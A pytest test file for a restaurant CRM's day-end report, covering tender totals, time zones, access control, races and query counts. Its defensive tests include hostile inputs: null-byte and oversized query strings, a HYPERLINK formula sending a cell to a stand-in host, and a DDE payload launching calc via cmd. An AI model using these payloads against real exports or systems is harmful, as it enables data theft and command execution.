"""Adversarial review of the cashier's day-end (issue 17 point 4): sign-for-bill on the day-end
worked by hand, the identity sales = coupons + points + Σ tenders for every cashier and the
store on a messy day (voids of earlier bills, a bill closed at 23:59:59 and voided at 00:00:01,
a store in another time zone, a deactivated cashier), hostile query strings and forms, formula
injection in the downloads, checks resent and raced, figures that change between the page load
and the check, and a day of 5,000 bills read in as many statements as a day of 10."""
import csv
import io
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from crm.extensions import db
from tests.conftest import PASSWORD, SYSTEM, audit_problems, in_app, login_on
from tests.test_checkout_statements import counted
from tests.test_races import api_call, race
from tests.test_ui import text, ui_login

SHANGHAI = ZoneInfo("Asia/Shanghai")
NEW_YORK = ZoneInfo("America/New_York")
DAY = "2026-03-10"


def at(*parts, tz=SHANGHAI):
    return datetime(*parts, tzinfo=tz)


def D(s):
    return Decimal(s)


def assert_identity(d):
    """sales = coupons + points + Σ tenders and paid = Σ tenders, closed/voided/net, for the store
    and every cashier; the cashiers add up to the store figure by figure."""
    for section in [d["total"], *d["cashiers"]]:
        for part in ("closed", "voided", "net"):
            f = section[part]
            tenders = sum((D(v) for v in f["tenders"].values()), D(0))
            assert D(f["paid"]) == tenders, (section.get("staff"), part, f)
            assert D(f["sales"]) == D(f["coupon_discount"]) + D(f["points_value"]) + tenders, (
                section.get("staff"), part, f)
        for k in ("bills", "covers"):
            assert section["net"][k] == section["closed"][k] - section["voided"][k]
    if d["cashiers"] and len(d["cashiers"]) > 0:
        for part in ("closed", "voided", "net"):
            for k in ("sales", "coupon_discount", "points_value", "paid"):
                assert sum(D(c[part][k]) for c in d["cashiers"]) == D(d["total"][part][k]), (part, k)
            for m, v in d["total"][part]["tenders"].items():
                assert sum(D(c[part]["tenders"].get(m, "0")) for c in d["cashiers"]) == D(v), (part, m)


# --- sign-for-bill on the day-end ---------------------------------------------------------------

@pytest.fixture
def corp_day(app, clock, catalogue, login_api, desk, member_factory, stores, staff):
    """March 10 2026 at BJ01. 华为 (15% negotiated discount) has an account with a 500.00 limit and
    a signer. STEAK 198.00 (members 178.00), so 168.30 for 华为's people.
      S1 10:00 cashier: signer, 2 STEAK = 336.60 signed to the company
      S2 11:00 cashier: signer, 1 STEAK = 168.30: 163.40 signed + 4.90 cash (owed reaches 500.00)
      S3 12:00 cashier: guest, 1 TEA 20.00 cash
      V  13:00 manager voids S1 "wrong company" (336.60 goes back to the account)"""
    clock.freeze(at(2026, 3, 11, 10))
    cashier, manager = login_api("cashier"), login_api("manager")
    clock.freeze(at(2026, 3, 1, 10))
    r = manager.post("/api/v1/items", json={"sku": "STEAK", "name": "牛排", "category": "grill",
                                            "list_price": "198.00", "member_price": "178.00"})
    assert r.status_code == 201, r.json
    r = desk.post("/api/v1/companies", json={"name": "华为", "negotiated_discount": "15.00",
                                             "account_class": "key_account"})
    assert r.status_code == 201, r.json
    company = r.json["id"]
    signer = member_factory(name="张总", company="华为")
    assert manager.put(f"/api/v1/companies/{company}/account", json={"credit_limit": "500.00"}).status_code == 201
    assert manager.post(f"/api/v1/companies/{company}/signers/{signer['id']}").status_code == 201
    bills = {}

    def bill(name, when, items, **body):
        clock.freeze(when)
        r = cashier.post("/api/v1/checkouts", json={"store_code": "BJ01",
                                                    "items": [{"sku": s, "qty": k} for s, k in items], **body})
        assert r.status_code == 201, r.json
        bills[name] = r.json
        return r.json

    s1 = bill("S1", at(2026, 3, 10, 10), [("STEAK", 2)], member_id=signer["id"],
              tenders=[{"method": "company_account"}])
    assert s1["tenders"] == [{"method": "company_account", "amount": "336.60"}]
    s2 = bill("S2", at(2026, 3, 10, 11), [("STEAK", 1)], member_id=signer["id"],
              tenders=[{"method": "company_account", "amount": "163.40"}, {"method": "cash"}])
    assert s2["tenders"] == [{"method": "company_account", "amount": "163.40"}, {"method": "cash", "amount": "4.90"}]
    bill("S3", at(2026, 3, 10, 12), [("TEA", 1)], tenders=[{"method": "cash"}])
    clock.freeze(at(2026, 3, 10, 13))
    v = manager.post(f"/api/v1/checkouts/{s1['id']}/void", json={"reason": "wrong company"})
    assert v.status_code == 201 and v.json["company_account_reversed"] == "336.60", v.json
    clock.freeze(at(2026, 3, 10, 20))
    return {"manager": manager, "cashier": cashier, "bills": bills}


def test_sign_for_bill_is_labelled_and_not_money_taken(app, staff, corp_day):
    d = corp_day["manager"].get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    assert [(m["method"], m["label"]) for m in d["methods"]] == [
        ("cash", "Cash"), ("company_account", "Charged to company account")]
    t = d["total"]
    # Closed: S1 336.60 + S2 168.30 + S3 20.00 = 524.90; signed 336.60 + 163.40 = 500.00, cash 4.90 + 20 = 24.90.
    assert (t["closed"]["bills"], t["closed"]["sales"], t["closed"]["paid"], t["closed"]["tenders"]) == (
        3, "524.90", "524.90", {"cash": "24.90", "company_account": "500.00"})
    # Voided: S1, 336.60 signed.
    assert (t["voided"]["bills"], t["voided"]["sales"], t["voided"]["tenders"]) == (
        1, "336.60", {"company_account": "336.60"})
    # Net: 2 bills, 188.30 = 163.40 signed + 24.90 cash.
    assert (t["net"]["bills"], t["net"]["sales"], t["net"]["paid"], t["net"]["tenders"]) == (
        2, "188.30", "188.30", {"cash": "24.90", "company_account": "163.40"})
    # Money taken: the cash only; what the company owes was not taken (like stored value).
    assert d["takings"] == {"cash": "24.90"}
    assert_identity(d)
    v = d["voids"][0]
    assert (v["reason"], v["tenders"], v["closed_by"]["username"]) == (
        "wrong company", {"company_account": "336.60"}, "cashier")

    rows = list(csv.reader(io.StringIO(corp_day["manager"].get(
        f"/api/v1/day-end?store_code=BJ01&date={DAY}&format=csv").data.decode("utf-8-sig"))))
    assert ["Tenders", "Store total", "Charged to company account", "500.00", "336.60", "163.40", ""] in rows
    assert [r for r in rows if r[0] == "Money taken"] == [["Money taken", "Store total", "Cash", "", "", "24.90", ""]]

    ui = ui_login(app, staff["manager"], lang="en")
    page = text(ui.get(f"/day-end/?store_code=BJ01&date={DAY}"))
    assert '<tr data-tender="company_account"><th scope="row">Charged to company account</th>' in page
    takings = page.split('id="takings"', 1)[1].split("</table>", 1)[0]
    assert "Cash" in takings and "24.90" in takings and "company" not in takings
    assert "Charged to company account 336.60" in page.split('id="voids"', 1)[1]
    assert audit_problems(app) == []


# --- the identity on a messy day, another time zone, a deactivated cashier ------------------------

@pytest.fixture
def messy(app, clock, catalogue, login_api, member_factory, give_points, stores, staff):
    from crm.auth import service as auth
    from crm.stores import service as store_service

    def make():
        ny = store_service.create_store(SYSTEM, code="NY01", name="纽约店", kind="restaurant",
                                        timezone="America/New_York")
        auth.create_staff(SYSTEM, username="nycashier", password=PASSWORD, role="cashier", store_id=ny.id)
        auth.create_staff(SYSTEM, username="cashier2", password=PASSWORD, role="cashier", store_id=stores["BJ01"])
        return ny.id
    ny_id = in_app(app, make)
    clock.freeze(at(2026, 3, 12, 12))
    c1, manager = login_api("cashier"), login_api("manager")
    c2, cny = login_on(app, "cashier2"), login_on(app, "nycashier")
    clock.freeze(at(2026, 3, 1, 10))
    members = [member_factory() for _ in range(3)]
    give_points(members[0]["id"], 30)
    r = manager.post("/api/v1/coupon-types", json={"code": "CASH20", "name": "立减20", "kind": "cash",
                                                   "face_value": "20.00"})
    assert r.status_code == 201, r.json
    coupon = manager.post(f"/api/v1/members/{members[1]['id']}/coupons", json={"coupon_type": "CASH20", "reason": "x"})
    assert coupon.status_code == 201, coupon.json
    r = c1.post(f"/api/v1/members/{members[2]['id']}/wallet/top-ups",
                json={"store_code": "BJ01", "amount": "300.00", "payment_method": "cash"})
    assert r.status_code == 201, r.json
    bills = {}

    def bill(name, who, when, items, store="BJ01", **body):
        clock.freeze(when)
        r = who.post("/api/v1/checkouts", json={"store_code": store, "items": [{"sku": s, "qty": k} for s, k in items],
                                                **body})
        assert r.status_code == 201, r.json
        bills[name] = r.json
        return r.json

    def void(name, when, reason="x"):
        clock.freeze(when)
        r = manager.post(f"/api/v1/checkouts/{bills[name]['id']}/void", json={"reason": reason})
        assert r.status_code == 201, r.json

    cash = [{"method": "cash"}]
    # Shanghai: an earlier bill voided on the 10th, a 23:59:59 bill voided at 00:00:01 on the 11th,
    # mixed tenders (points + coupon + wallet + split cash/card) by two cashiers.
    bill("E1", c2, at(2026, 3, 8, 12), [("SALMON", 1)], tenders=[{"method": "alipay"}])
    bill("M1", c1, at(2026, 3, 10, 9), [("TEA", 3)], member_id=members[0]["id"], redeem_points=30,
         tenders=cash)
    bill("M2", c2, at(2026, 3, 10, 10), [("SALMON", 2)], member_id=members[1]["id"],
         coupon_codes=[coupon.json["code"]], tenders=[{"method": "bank_card", "amount": "50.00"},
                                                      {"method": "wechat_pay"}], covers=4)
    bill("M3", c1, at(2026, 3, 10, 11), [("LOBSTER", 1)], member_id=members[2]["id"], wallet_amount="300.00",
         tenders=cash)
    void("E1", at(2026, 3, 10, 12), "=1+1 earlier bill")
    bill("L1", c2, at(2026, 3, 10, 23, 59, 59), [("TEA", 1)], tenders=cash)
    void("L1", at(2026, 3, 11, 0, 0, 1), "just after midnight")
    # New York: a bill at 23:59:59 on the 9th there (= 12:59:59 on the 10th in Shanghai), voided at
    # 00:00:01 on the 10th there.
    bill("N1", cny, at(2026, 3, 9, 23, 59, 59, tz=NEW_YORK), [("TEA", 2)], store="NY01", tenders=cash)
    void("N1", at(2026, 3, 10, 0, 0, 1, tz=NEW_YORK), "rang at the wrong store")
    bill("N2", cny, at(2026, 3, 10, 0, 0, 2, tz=NEW_YORK), [("SALMON", 1)], store="NY01",
         tenders=[{"method": "alipay"}])
    # cashier2 leaves: deactivated after the day.
    clock.freeze(at(2026, 3, 11, 12))
    in_app(app, lambda: auth.update_staff(SYSTEM, _staff_id(app, "cashier2"), active=False))
    return {"manager": manager, "bills": bills, "ny": ny_id, "c1": c1}


def _staff_id(app, username):
    from sqlalchemy import select

    from crm.auth.models import Staff
    with app.app_context():
        return db.session.scalar(select(Staff.id).where(Staff.username == username))


def test_the_identity_holds_for_every_cashier_and_the_store_on_a_messy_day(app, messy):
    manager = messy["manager"]
    for store, day in (("BJ01", "2026-03-08"), ("BJ01", "2026-03-10"), ("BJ01", "2026-03-11"),
                       ("NY01", "2026-03-09"), ("NY01", "2026-03-10")):
        r = manager.get(f"/api/v1/day-end?store_code={store}&date={day}")
        assert r.status_code == 200, r.json
        assert_identity(r.json)
    tenth = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    t = tenth["total"]
    # Closed on the 10th: M1 TEA 3 = 60.00 (30 points = 30.00, cash 30.00), M2 2 SALMON 136.00
    # (coupon 20.00, card 50.00, WeChat 66.00), M3 LOBSTER 328.00 (wallet 300.00, cash 28.00),
    # L1 TEA 20.00 cash at 23:59:59. Sales 60 + 136 + 328 + 20 = 544.00.
    assert (t["closed"]["bills"], t["closed"]["sales"], t["closed"]["coupon_discount"], t["closed"]["points_value"]) \
        == (4, "544.00", "20.00", "30.00")
    assert t["closed"]["tenders"] == {"cash": "78.00", "bank_card": "50.00", "wechat_pay": "66.00",
                                      "stored_value": "300.00"}
    # Voided on the 10th: E1 only (108.00 Alipay, closed on the 8th); L1 was voided on the 11th.
    assert (t["voided"]["bills"], t["voided"]["tenders"]) == (1, {"alipay": "108.00"})
    assert t["net"]["tenders"]["alipay"] == "-108.00" and t["net"]["sales"] == "436.00"
    # The deactivated cashier2 still has their section, by name.
    by = {c["staff"]["username"]: c for c in tenth["cashiers"]}
    assert by["cashier2"]["voided"]["sales"] == "108.00" and by["cashier2"]["closed"]["sales"] == "156.00"
    eleventh = manager.get("/api/v1/day-end?store_code=BJ01&date=2026-03-11").json["total"]
    assert (eleventh["closed"]["bills"], eleventh["voided"]["bills"], eleventh["net"]["sales"]) == (0, 1, "-20.00")

    # New York's own days: N1 closed on the 9th there, voided on the 10th there; N2 on the 10th.
    ninth = manager.get("/api/v1/day-end?store_code=NY01&date=2026-03-09").json
    assert ninth["timezone"] == "America/New_York" and ninth["to"] == "2026-03-10T04:00:00+00:00"  # EDT, UTC−4
    assert (ninth["total"]["closed"]["bills"], ninth["total"]["voided"]["bills"], ninth["total"]["net"]["sales"]) \
        == (1, 0, "40.00")
    ny10 = manager.get("/api/v1/day-end?store_code=NY01&date=2026-03-10").json
    assert (ny10["total"]["closed"]["tenders"], ny10["total"]["voided"]["tenders"], ny10["takings"]) == (
        {"alipay": "108.00"}, {"cash": "40.00"}, {"cash": "-40.00", "alipay": "108.00"})
    assert [v["closed_on"] for v in ny10["voids"]] == ["2026-03-09"]
    # March 8 2026 in New York is 23 hours long (clocks go forward at 02:00): 05:00Z to 04:00Z.
    dst = manager.get("/api/v1/day-end?store_code=NY01&date=2026-03-08").json
    assert (dst["from"], dst["to"]) == ("2026-03-08T05:00:00+00:00", "2026-03-09T04:00:00+00:00")
    # The New York day does not leak into Shanghai's and back.
    assert "NY" not in str([v["reason"] for v in tenth["voids"]]) and len(tenth["voids"]) == 1


def test_a_store_in_another_zone_is_checked_on_its_own_today(app, clock, messy):
    """At 20:00 on the 10th in Shanghai it is 08:00 on the 10th in New York (EDT from the 8th:
    UTC−4): the 10th has begun there, the 11th has not."""
    manager = messy["manager"]
    clock.freeze(at(2026, 3, 10, 20))
    r = manager.post("/api/v1/day-end/checks", json={"store_code": "NY01", "date": "2026-03-10"})
    assert r.status_code == 201, r.json
    r = manager.post("/api/v1/day-end/checks", json={"store_code": "NY01", "date": "2026-03-11"})
    assert r.status_code == 422 and r.json["error"]["code"] == "day_not_begun"
    # and its page, asked for no day, opens on its own today
    ui = ui_login(app, "manager", lang="en")
    r = ui.get("/day-end/?store_code=NY01")
    assert r.status_code == 302 and "date=2026-03-10" in r.location


# --- hostile input ------------------------------------------------------------------------------

HOSTILE_QUERIES = ("store_code=BJ01&date=9999-12-31", "store_code=BJ01&date=0000-00-00",
                   "store_code=BJ01&date=0001-01-01", "store_code=BJ01&date=2026-03-10%00",
                   "store_code=BJ01%00&date=2026-03-10", "store_code=" + "B" * 10240 + "&date=2026-03-10",
                   "store_code=BJ01&date=2026-03-10&format=csv%00", "store_code=BJ01&date=2026-03-10.5",
                   "store_code=BJ01&date=" + "9" * 5000, "store_code=%F0%9F%98%80&date=2026-03-10")


@pytest.mark.parametrize("query", HOSTILE_QUERIES)
def test_hostile_query_strings_are_422_on_the_api(login_api, query):
    r = login_api("manager").get(f"/api/v1/day-end?{query}")
    assert r.status_code == 422, (query, r.status_code, r.data[:300])


@pytest.mark.parametrize("query", HOSTILE_QUERIES + (
    "store_code=%00", "store_code=" + "B" * 10240, "store_code=BJ01%00", "date=%00", "date=9999-12-31",
    "store_code=%F0%9F%98%80"))
def test_hostile_query_strings_are_never_500_on_the_page(app, staff, query):
    ui = ui_login(app, staff["manager"], lang="en")
    r = ui.get(f"/day-end/?{query}")
    assert r.status_code in (302, 422), (query, r.status_code)
    if r.status_code == 302:
        r = ui.get(r.location)
        assert r.status_code in (200, 422), (query, r.status_code)


@pytest.mark.parametrize("form", [
    {"store_code": "B" * 10240, "date": DAY}, {"store_code": "BJ01", "date": "9999-12-31"},
    {"store_code": "BJ01", "date": "0000-00-00"}, {"store_code": "\x00", "date": DAY},
    {"store_code": "BJ01", "date": DAY, "note": "n" * 10000}, {"store_code": "", "date": ""},
    {"store_code": "BJ01", "date": DAY, "seen": "x" * 1000}])
def test_hostile_check_forms_are_422_and_record_nothing(app, staff, login_api, clock, form):
    clock.freeze(at(2026, 3, 10, 21))
    ui = ui_login(app, staff["manager"], lang="en")
    ui.get(f"/day-end/?store_code=BJ01&date={DAY}")
    r = ui.post("/day-end/check", {**form, "form_token": ui.form_tokens["/day-end/check"]})
    assert r.status_code in (403, 422), (form, r.status_code)
    assert 'class="error' in text(r) or "aria-invalid" in text(r), form  # said on the page, not only by the status
    assert login_api("manager").get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"] == []


def test_a_cashier_cannot_reach_another_stores_day_by_any_door(app, staff, login_api, clock):
    cashier = login_api("cashier")
    for query in ("store_code=BJ02", "store_code=bj02", "store_code=%20BJ02%20", "store_code=HT01"):
        r = cashier.get(f"/api/v1/day-end?{query}&date={DAY}")
        assert r.status_code == 403 and r.json["error"]["code"] == "other_store", query
        r = cashier.post("/api/v1/day-end/checks", json={"store_code": query.split("=", 1)[1].replace("%20", " "),
                                                         "date": DAY})
        assert r.status_code == 403, query
    ui = ui_login(app, staff["cashier"], lang="en")
    for query in ("store_code=BJ02", "store_code=bj02", "store_code=HT01&format=csv", "store_code=BJ02&format=xlsx"):
        r = ui.get(f"/day-end/?{query}&date={DAY}")
        assert r.status_code == 403, query
        assert r.mimetype == "text/html", query
    # the page asked for another store without a day does not redirect into it either
    r = ui.get("/day-end/?store_code=BJ02")
    assert r.status_code == 403
    ui.get(f"/day-end/?store_code=BJ01&date={DAY}")
    r = ui.post("/day-end/check", {"store_code": "BJ02", "date": DAY, "form_token": ui.form_tokens["/day-end/check"]})
    assert r.status_code in (403, 422)
    assert login_api("manager").get(f"/api/v1/day-end?store_code=BJ02&date={DAY}").json["checks"] == []


# --- formula injection --------------------------------------------------------------------------

def test_void_reasons_and_staff_names_cannot_run_as_formulas(app, clock, catalogue, stores, login_api):
    from crm.auth import service as auth
    in_app(app, lambda: auth.create_staff(SYSTEM, username="evil", password=PASSWORD, role="cashier",
                                          name='=HYPERLINK("http://x.example/?"&A1,"click")',
                                          store_id=stores["BJ01"]))
    in_app(app, lambda: auth.create_staff(SYSTEM, username="evil2", password=PASSWORD, role="manager",
                                          name="@SUM(1+1)", store_id=stores["BJ01"]))
    clock.freeze(at(2026, 3, 10, 22))
    evil, evil2, manager = login_on(app, "evil"), login_on(app, "evil2"), login_api("manager")
    clock.freeze(at(2026, 3, 10, 10))
    r = evil.post("/api/v1/checkouts", json={"store_code": "BJ01", "items": [{"sku": "TEA", "qty": 1}],
                                             "tenders": [{"method": "cash"}]})
    assert r.status_code == 201, r.json
    clock.freeze(at(2026, 3, 10, 11))
    v = evil2.post(f"/api/v1/checkouts/{r.json['id']}/void", json={"reason": "=cmd|' /C calc'!A0"})
    assert v.status_code == 201, v.json
    rows = list(csv.reader(io.StringIO(manager.get(
        f"/api/v1/day-end?store_code=BJ01&date={DAY}&format=csv").data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("-").replace(".", "").isdigit()]
    assert "'" + '=HYPERLINK("http://x.example/?"&A1,"click")' in cells
    from openpyxl import load_workbook
    x = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}&format=xlsx")
    sheet = load_workbook(io.BytesIO(x.data)).active
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value


# --- checking: resent, raced, and what the check keeps ---------------------------------------------

@pytest.fixture
def open_day(app, clock, catalogue, login_api, stores, staff):
    """Two bills of the cashier at BJ01 on March 10: TEA 20.00 cash (B1), SALMON 108.00 Alipay (B2)."""
    clock.freeze(at(2026, 3, 11, 10))
    cashier, manager = login_api("cashier"), login_api("manager")
    clock.freeze(at(2026, 3, 10, 10))
    ids = []
    for sku, method in (("TEA", "cash"), ("SALMON", "alipay")):
        r = cashier.post("/api/v1/checkouts", json={"store_code": "BJ01", "items": [{"sku": sku, "qty": 1}],
                                                    "tenders": [{"method": method}]})
        assert r.status_code == 201, r.json
        ids.append(r.json["id"])
    clock.freeze(at(2026, 3, 10, 21))
    return {"manager": manager, "ids": ids}


def test_a_figure_that_changes_between_the_page_and_the_check_is_not_signed_off_unseen(app, staff, open_day):
    """The manager loads the day (net 128.00) and counts the drawer; meanwhile B1 (20.00 cash) is
    voided. Pressing "checked" must not record 108.00 as what they checked: the page says the
    figures changed, shows the new ones, and records nothing until they check again."""
    manager = open_day["manager"]
    ui = ui_login(app, staff["manager"], lang="en")
    page = text(ui.get(f"/day-end/?store_code=BJ01&date={DAY}"))
    assert "128.00" in page
    token = ui.form_tokens["/day-end/check"]
    seen = _hidden(page, "seen")
    assert manager.post(f"/api/v1/checkouts/{open_day['ids'][0]}/void", json={"reason": "x"}).status_code == 201
    r = ui.post("/day-end/check", {"store_code": "BJ01", "date": DAY, "note": "drawer 128.00",
                                   "form_token": token, "seen": seen})
    assert r.status_code == 409, r.status_code
    assert "The figures changed while you had the page open" in text(r) and "108.00" in text(r)
    assert manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"] == []
    # Checking again from the page as it is now records the figures it shows.
    page = text(r)
    r = ui.post("/day-end/check", {"store_code": "BJ01", "date": DAY, "note": "recounted",
                                   "form_token": _hidden(page, "form_token"), "seen": _hidden(page, "seen")})
    assert r.status_code == 302
    checks = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"]
    assert [(c["note"], c["totals"]["net.paid"]) for c in checks] == [("recounted", "108.00")]
    assert "records who checked it and the figures shown" in text(ui.get(f"/day-end/?store_code=BJ01&date={DAY}"))


def test_the_api_check_may_name_the_figures_it_saw(open_day):
    manager = open_day["manager"]
    d = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    assert manager.post(f"/api/v1/checkouts/{open_day['ids'][0]}/void", json={"reason": "x"}).status_code == 201
    r = manager.post("/api/v1/day-end/checks", json={"store_code": "BJ01", "date": DAY, "seen": d["fingerprint"]})
    assert r.status_code == 409 and r.json["error"]["code"] == "figures_changed", r.json
    d = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    r = manager.post("/api/v1/day-end/checks", json={"store_code": "BJ01", "date": DAY, "seen": d["fingerprint"]})
    assert r.status_code == 201 and r.json["totals"]["net.paid"] == "108.00"
    # without `seen` the API keeps what the figures are when it records (as before)
    assert manager.post("/api/v1/day-end/checks", json={"store_code": "BJ01", "date": DAY}).status_code == 201
    for bad in ("", "x" * 1000, "\x00", 12):
        r = manager.post("/api/v1/day-end/checks", json={"store_code": "BJ01", "date": DAY, "seen": bad})
        assert r.status_code in (409, 422), (bad, r.json)


def _hidden(page, name):
    import re
    found = re.search(rf'name="{name}" value="([^"]*)"', page)
    assert found, name
    return found[1]


def test_a_check_form_sent_twice_at_once_records_once_and_two_managers_each_once(app, staff, open_day, backend):
    from crm.auth import service as auth
    in_app(app, lambda: auth.create_staff(SYSTEM, username="manager2", password=PASSWORD, role="manager",
                                          store_id=None))
    manager = open_day["manager"]
    ui = ui_login(app, staff["manager"], lang="en")
    page = text(ui.get(f"/day-end/?store_code=BJ01&date={DAY}"))
    form = {"store_code": "BJ01", "date": DAY, "note": "counted", "form_token": _hidden(page, "form_token")}
    if 'name="seen"' in page:
        form["seen"] = _hidden(page, "seen")
    results = race(4, lambda i: ui.post("/day-end/check", form).status_code) if backend == "postgresql" else [
        ui.post("/day-end/check", form).status_code for _ in range(2)]
    assert set(results) == {302}, results
    assert len(manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"]) == 1
    # Two managers at once through the API: one record each.
    m2 = login_on(app, "manager2")
    body = {"store_code": "BJ01", "date": DAY}
    out = race(2, lambda i: api_call(app, (manager, m2)[i].token, "POST", "/api/v1/day-end/checks", body,
                                     key=f"k-{i}"))
    assert [o[0] for o in out] == [201, 201], out
    checks = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"]
    assert sorted(c["checked_by"]["username"] for c in checks) == ["manager", "manager", "manager2"]
    # One key reused with another body: refused, nothing more recorded.
    r = manager.post("/api/v1/day-end/checks", json={**body, "note": "other"}, key="k-0")
    assert r.status_code in (409, 422), r.json
    assert len(manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json["checks"]) == 3


# --- a huge day ---------------------------------------------------------------------------------

def _insert_bills(app, n, start_id, staff_ids, store_id, voided_every=7):
    """n bills straight into the tables: 10.00 each, half cash, half WeChat; every 7th voided."""
    from sqlalchemy import insert

    from crm.checkout.models import Checkout, CheckoutTender
    base = datetime(2026, 3, 10, 2, tzinfo=timezone.utc)
    bills, tenders = [], []
    for i in range(n):
        cid = start_id + i
        when = base + timedelta(seconds=i)
        voided = i % voided_every == 0
        bills.append({"id": cid, "store_id": store_id, "status": "voided" if voided else "closed",
                      "list_total": 1000, "member_total": 1000, "due": 1000, "covers": 1,
                      "staff_id": staff_ids[i % len(staff_ids)], "created_at": when,
                      "voided_at": when + timedelta(minutes=1) if voided else None,
                      "voided_by": staff_ids[0] if voided else None,
                      "void_reason": f"reason {i}" if voided else None})
        tenders.append({"checkout_id": cid, "method": ("cash", "wechat_pay")[i % 2], "amount": 1000})
    with app.app_context():
        db.session.execute(insert(Checkout), bills)
        db.session.execute(insert(CheckoutTender), tenders)
        db.session.commit()


def test_a_day_of_5000_bills_takes_as_many_statements_as_a_day_of_10(app, clock, stores, staff, login_api):
    clock.freeze(at(2026, 3, 11, 10))
    manager = login_api("manager")
    ids = [_staff_id(app, u) for u in ("cashier", "frontdesk", "manager")]
    url = "/api/v1/day-end?store_code=BJ01&date=2026-03-10"
    _insert_bills(app, 10, 1, ids, stores["BJ01"])
    manager.get(url)  # warm caches
    with counted(app) as small:
        r = manager.get(url)
    assert r.status_code == 200 and r.json["total"]["closed"]["bills"] == 10
    _insert_bills(app, 4990, 11, ids, stores["BJ01"])
    with counted(app) as big:
        r = manager.get(url)
    assert r.status_code == 200
    d = r.json
    # 5,000 bills of 10.00: closed 50,000.00; every 7th (i = 0, 7, …, 4998: 715 bills) voided.
    assert (d["total"]["closed"]["bills"], d["total"]["closed"]["sales"]) == (5000, "50000.00")
    assert (d["total"]["voided"]["bills"], d["total"]["net"]["sales"]) == (715, "42850.00")
    assert_identity(d)
    assert len(big) == len(small), (len(small), len(big))
    ui = ui_login(app, staff["manager"], lang="en")
    with counted(app) as page:
        assert ui.get("/day-end/?store_code=BJ01&date=2026-03-10").status_code == 200
    assert len(page) <= len(big) + 12, len(page)


# --- refunds and write-offs of one member on one day ------------------------------------------------

def test_a_refund_earlier_the_same_day_is_not_taken_for_an_erasures_write_off(app, clock, stores, staff, login_api,
                                                                              member_factory):
    """N tops up 200.00 cash at 09:00; the manager refunds it at 10:00 (200.00 paid back from the
    drawer); N tops up 100.00 cash at 11:00 and is erased at 12:00 giving the 100.00 up. The
    drawer paid back 200.00: one refund of 200.00, and the 100.00 listed as written off apart."""
    clock.freeze(at(2026, 3, 11, 10))
    cashier, manager = login_api("cashier"), login_api("manager")
    clock.freeze(at(2026, 3, 1, 10))
    n = member_factory()

    def top_up(when, amount):
        clock.freeze(when)
        r = cashier.post(f"/api/v1/members/{n['id']}/wallet/top-ups",
                         json={"store_code": "BJ01", "amount": amount, "payment_method": "cash"})
        assert r.status_code == 201, r.json
    top_up(at(2026, 3, 10, 9), "200.00")
    clock.freeze(at(2026, 3, 10, 10))
    r = manager.post(f"/api/v1/members/{n['id']}/wallet/refunds", json={"store_code": "BJ01", "reason": "moving"})
    assert r.status_code == 201 and r.json["refunded_principal"] == "200.00", r.json
    top_up(at(2026, 3, 10, 11), "100.00")
    clock.freeze(at(2026, 3, 10, 12))
    preview = manager.get(f"/api/v1/members/{n['id']}/erasure").json
    assert (preview["principal"], preview["bonus"]) == ("100.00", "0.00"), preview
    r = manager.post(f"/api/v1/members/{n['id']}/erasure", json={
        "reason": "member asked", "wallet_rule": "forfeit",
        "confirm": {k: preview[k] for k in ("points", "principal", "bonus")}})
    assert r.status_code == 200, r.json
    clock.freeze(at(2026, 3, 10, 20))
    d = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    assert d["total"]["refunds"] == {"count": 1, "principal": "200.00", "bonus": "0.00"}
    assert [(x["principal"], x["written_off"]) for x in d["refunds"]] == [("200.00", False), ("100.00", True)]
    by = {c["staff"]["username"]: c for c in d["cashiers"]}
    assert by["manager"]["refunds"] == {"count": 1, "principal": "200.00", "bonus": "0.00"}
    assert audit_problems(app) == []


def test_a_void_paid_by_coupon_alone_lists_its_means_without_a_stray_comma(app, clock, catalogue, stores, staff,
                                                                          login_api, member_factory):
    clock.freeze(at(2026, 3, 11, 10))
    cashier, manager = login_api("cashier"), login_api("manager")
    clock.freeze(at(2026, 3, 1, 10))
    q = member_factory()
    assert manager.post("/api/v1/coupon-types", json={"code": "CASH20", "name": "立减20", "kind": "cash",
                                                      "face_value": "20.00"}).status_code == 201
    coupon = manager.post(f"/api/v1/members/{q['id']}/coupons", json={"coupon_type": "CASH20", "reason": "x"})
    clock.freeze(at(2026, 3, 10, 10))
    r = cashier.post("/api/v1/checkouts", json={"store_code": "BJ01", "items": [{"sku": "TEA", "qty": 1}],
                                                "member_id": q["id"], "coupon_codes": [coupon.json["code"]]})
    assert r.status_code == 201 and r.json["tenders"] == [] and r.json["coupon_discount"] == "20.00", r.json
    clock.freeze(at(2026, 3, 10, 11))
    assert manager.post(f"/api/v1/checkouts/{r.json['id']}/void", json={"reason": "x"}).status_code == 201
    d = manager.get(f"/api/v1/day-end?store_code=BJ01&date={DAY}").json
    assert_identity(d)  # sales 20.00 = coupons 20.00 + points 0 + no tender, closed and voided
    ui = ui_login(app, staff["manager"], lang="en")
    voids = text(ui.get(f"/day-end/?store_code=BJ01&date={DAY}")).split('id="voids"', 1)[1].split("</table>", 1)[0]
    cell = voids.split("</td>")[-2].rsplit("<td>", 1)[1].strip()
    assert cell == "Coupons 20.00", cell


# --- a bill closing while the day-end is being read ------------------------------------------------

def test_a_bill_closed_while_the_day_end_is_read_keeps_the_identity(app, backend, clock, stores, staff, login_api):
    """The day-end reads bills, their tenders and the voids in several statements; on PostgreSQL
    each statement sees what was committed when it began. A bill (10.00 cash) and a void (of an
    earlier 10.00 cash bill) committed just before the tenders are read must not give a day whose
    sales and tenders disagree: either both count a bill or neither does."""
    from sqlalchemy import event
    from sqlalchemy import text as sql

